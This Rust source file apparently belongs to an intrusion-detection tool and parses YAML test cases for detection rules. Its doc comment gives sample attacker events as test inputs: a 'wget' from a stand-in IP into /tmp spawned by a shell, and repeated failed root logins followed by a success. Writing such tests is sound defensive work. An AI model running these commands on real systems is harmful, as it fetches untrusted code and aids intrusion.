//! Tests of rules: events that must make a rule fire, and near misses that must not.
//!
//! A rule file `name.yml` has its tests beside it in `name.tests.yaml` (the other suffix keeps them out of what the agent loads):
//!
//! ```yaml
//! - rule: 3b1a...                      # id, name or title
//!   fires:
//!   - run: wget http://192.0.2.1/x -O /tmp/x
//!     parent: /bin/sh
//!   - - {login: failure, from: 192.0.2.1, repeat: 5, every: 1}
//!     - {login: success, from: 192.0.2.1, user: root}
//!   quiet:
//!   - run: wget http://192.0.2.1/x -O /home/u/x
//! ```
//!
//! One case is an event or a list of events. The first key in this table that an event has says what happens; the others are its
//! particulars, all of them optional unless said otherwise.
//!
//! | Event | Its keys |
//! |---|---|
//! | `run:` arguments (text, split at each blank, or a list) | `image` (default: the first argument, below `/usr/bin` unless it is a path), `cwd`, `tty`, `parent`, `parent_command`, `user`, `uid` |
//! | `login:` `success`, `failure` | `activity` (`logon`, `logoff`, `account_switch`), `user`, `known`, `service`, `method`, `from`, `tty`, `message`, `count` |
//! | `connect:` address with port the device connects to | `from`, `protocol` (`tcp`), `host` (the name it was looked up by), `activity` (`opened`, `closed`, `failed`, `traffic`), `bytes_out`, `bytes_in`, *process* |
//! | `accept:` address, also with port, that connects to the device | `port` (of the device), and as above without `from` |
//! | `listen:` port, or address with port | `protocol`, *process* |
//! | `dns:` name | `type` (`A`), `rcode` (0), `answers` (a list), `server`, *process* |
//! | `file:` `created`, `modified`, `deleted`, `renamed`, `attributes`, `read` | `path` (must be there), `from` (path before), `type` (`regular`), `mode` (octal digits: `4755`), `owner`, `sha256`, *process* |
//! | `device:` `connected`, `disconnected` | `class` (`storage`, `network`, ...), `bus` (`usb`), `interface`, `path`, `vendor_id`, `product_id` (four hexadecimal digits in quotes), `vendor`, `product`, `serial` |
//! | `module:` name | `activity` (`loaded`, `removed`), `path`, `sha256`, *process* |
//! | `trace:` executable of the process that is traced | `target_command`, `target_uid`, *process* |
//! | `root_from:` user id before | *process* |
//! | `program:` name of an eBPF program, may be empty | `type` (`kprobe`, ...), *process* |
//! | `firewall:` `added`, `changed`, `removed` | `family` (`inet`), `table` (`filter`), `operation`, `entries`, `effect`, `summary`, *process* |
//!
//! *process* is who did it: `by` (executable), `command`, `parent`, `parent_command`, `user`, `uid`.
//! All take `wait` (seconds before it), `repeat` and `every` (seconds between repeats).

mod observed;

use std::sync::Arc;

use defender_model::authentication::{Activity, Authentication, Outcome};
use defender_model::event::{Event, EventKind};
use defender_model::finding::Finding;
use defender_model::process::{Ancestor, Change, Process, ProcessActivity, Source};
use defender_model::time::Timestamp;

use crate::detector::{Detector, Limits};
use crate::error::{At, Cause, RuleError};
use crate::ruleset::RuleSet;
use crate::yaml::{self, Kind, Node};

/// Most repeats of an event.
const MAX_REPEAT: i64 = 10_000;
/// When scenarios begin: any time does.
const START: Timestamp = Timestamp::from_secs(1_700_000_000);

/// The tests of one rule.
#[derive(Debug, Clone, PartialEq)]
pub struct Scenario {
    /// Id, name or title of the rule.
    pub rule: String,
    /// The cases.
    pub cases: Vec<Case>,
}

/// Some events and what the rule must make of them.
#[derive(Debug, Clone, PartialEq)]
pub struct Case {
    /// Line in the file.
    pub line: u32,
    /// The rule must fire.
    pub fires: bool,
    /// What happens, in order.
    pub events: Vec<Event>,
}

impl Case {
    /// What a new detector concludes from the events.
    #[must_use]
    pub fn run(&self, rules: &Arc<RuleSet>) -> Vec<Finding> {
        let mut detector = Detector::new(rules.clone(), Limits::default());
        let mut findings = Vec::new();
        for event in &self.events {
            detector.inspect(event, &mut findings);
        }
        findings
    }

    /// Whether the rule of that id does what it must.
    #[must_use]
    pub fn passes(&self, rules: &Arc<RuleSet>, id: &str) -> bool {
        self.run(rules).iter().any(|f| f.rule.id == id) == self.fires
    }
}

/// Reads a file of scenarios.
///
/// # Errors
/// The first thing that is wrong with the file.
pub fn parse(file_name: &str, bytes: &[u8]) -> Result<Vec<Scenario>, RuleError> {
    let mut out = Vec::new();
    for document in yaml::documents(bytes) {
        document.and_then(|node| scenarios(&node, &mut out)).map_err(|At { line, cause }| RuleError {
            file: file_name.to_owned(),
            line: Some(line),
            rule: None,
            cause,
        })?;
    }
    Ok(out)
}

fn wrong<T>(node: &Node, why: impl Into<String>) -> Result<T, At> {
    Err(At::new(node.line, Cause::Structure(why.into())))
}

fn scenarios(node: &Node, out: &mut Vec<Scenario>) -> Result<(), At> {
    let Some(items) = node.list() else { return wrong(node, "tests must be a list") };
    for item in items {
        let Some(entries) = item.map() else { return wrong(item, "a test must be a mapping") };
        let mut scenario = Scenario { rule: String::new(), cases: Vec::new() };
        for (key, value) in entries {
            match (key.as_str(), value.list()) {
                ("rule", _) => scenario.rule = value.scalar_text().unwrap_or_default(),
                ("fires" | "quiet", Some(cases)) => {
                    for case in cases {
                        let events = events(case)?;
                        scenario.cases.push(Case { line: case.line, fires: key == "fires", events });
                    }
                }
                _ => {
                    return wrong(
                        value,
                        format!("`{key}` is not one of rule, fires (a list), quiet (a list)"),
                    )
                }
            }
        }
        if scenario.rule.is_empty() {
            return wrong(item, "the test names no `rule`");
        }
        out.push(scenario);
    }
    Ok(())
}

fn events(case: &Node) -> Result<Vec<Event>, At> {
    let mut out = Vec::new();
    let mut now = START;
    for node in case.list().unwrap_or(std::slice::from_ref(case)) {
        let number = |key: &str, default: i64| match node.get(key) {
            None => Ok(default),
            Some(Node { kind: Kind::Int(n), .. }) if (0..=MAX_REPEAT * 100).contains(n) => Ok(*n),
            Some(other) => wrong(other, format!("`{key}` must be a whole number from 0")),
        };
        now = now + number("wait", 0)? * 1000;
        let kind = event(node)?;
        let (repeat, every) = (number("repeat", 1)?.min(MAX_REPEAT), number("every", 0)?);
        for i in 0..repeat {
            if i > 0 {
                now = now + every * 1000;
            }
            out.push(Event::new(now, kind.clone()));
        }
    }
    Ok(out)
}

fn event(node: &Node) -> Result<EventKind, At> {
    let Some(entries) = node.map() else { return wrong(node, "an event must be a mapping") };
    if node.get("run").is_some() {
        program_start(node, entries)
    } else if node.get("login").is_some() {
        login(node, entries)
    } else {
        observed::event(node, entries).unwrap_or_else(|| {
            let one_of = "run, login, connect, accept, listen, dns, file, device, module, program, trace, root_from, firewall";
            wrong(node, format!("an event must have one of {one_of}"))
        })
    }
}

fn program_start(node: &Node, entries: &[(String, Node)]) -> Result<EventKind, At> {
    let mut p = Process { pid: 4242, cwd: "/".to_owned(), uid: Some(0), euid: Some(0), ..Process::default() };
    let mut parent = Ancestor { pid: 4200, ..Ancestor::default() };
    for (key, value) in entries {
        let text = || match value.scalar_text() {
            Some(text) => Ok(text),
            None => wrong(value, format!("`{key}` must be text")),
        };
        match key.as_str() {
            "run" => {
                p.argv = match value.list() {
                    Some(items) => items.iter().map(|i| i.scalar_text().unwrap_or_default()).collect(),
                    None => text()?.split(' ').map(str::to_owned).collect(),
                }
            }
            "image" => p.executable = text()?.into(),
            "parent" => parent.executable = text()?.into(),
            "parent_command" => parent.command_line = text()?.into(),
            "cwd" => p.cwd = text()?,
            "user" => p.user = Some(text()?.into()),
            "tty" => p.tty = Some(text()?),
            "uid" => p.uid = text()?.parse().ok(),
            "wait" | "repeat" | "every" => {}
            _ => return wrong(value, format!("`{key}` is not a key of a program start")),
        }
    }
    let Some(first) = p.argv.first() else { return wrong(node, "`run` is empty") };
    if p.executable.is_empty() {
        p.executable =
            if first.starts_with('/') { first.as_str().into() } else { format!("/usr/bin/{first}").into() };
    }
    if !parent.executable.is_empty() || !parent.command_line.is_empty() {
        p.parent = Some(parent.into());
    }
    let change = Change::Exec { truncated: false };
    Ok(ProcessActivity { process: p, change, source: Source::Replay, started: None }.into())
}

fn login(node: &Node, entries: &[(String, Node)]) -> Result<EventKind, At> {
    let mut a = Authentication {
        activity: Activity::Logon,
        outcome: Outcome::Failure,
        user: None,
        user_known: None,
        service: "sshd".to_owned(),
        method: None,
        source: None,
        source_port: None,
        tty: None,
        pid: None,
        count: 1,
        duration_ms: None,
        message: String::new(),
    };
    for (key, value) in entries {
        let Some(text) = value.scalar_text() else { return wrong(value, format!("`{key}` must be text")) };
        match (key.as_str(), text.as_str()) {
            ("login", "failure") => a.outcome = Outcome::Failure,
            ("login", "success") => a.outcome = Outcome::Success,
            ("activity", "logon") => a.activity = Activity::Logon,
            ("activity", "logoff") => a.activity = Activity::Logoff,
            ("activity", "account_switch") => a.activity = Activity::AccountSwitch,
            ("user", _) => a.user = Some(text),
            ("known", _) => a.user_known = text.parse().ok(),
            ("service", _) => a.service = text,
            ("method", _) => a.method = Some(text),
            ("tty", _) => a.tty = Some(text),
            ("message", _) => a.message = text,
            ("from", _) => match text.parse() {
                Ok(address) => a.source = Some(address),
                Err(_) => return wrong(node, format!("`{text}` is not an address")),
            },
            ("count", _) => a.count = text.parse().unwrap_or(1),
            ("wait" | "repeat" | "every", _) => {}
            _ => {
                return wrong(
                    value,
                    format!("`{key}: {text}` is not a key of a login, or not a value for it"),
                )
            }
        }
    }
    Ok(a.into())
}
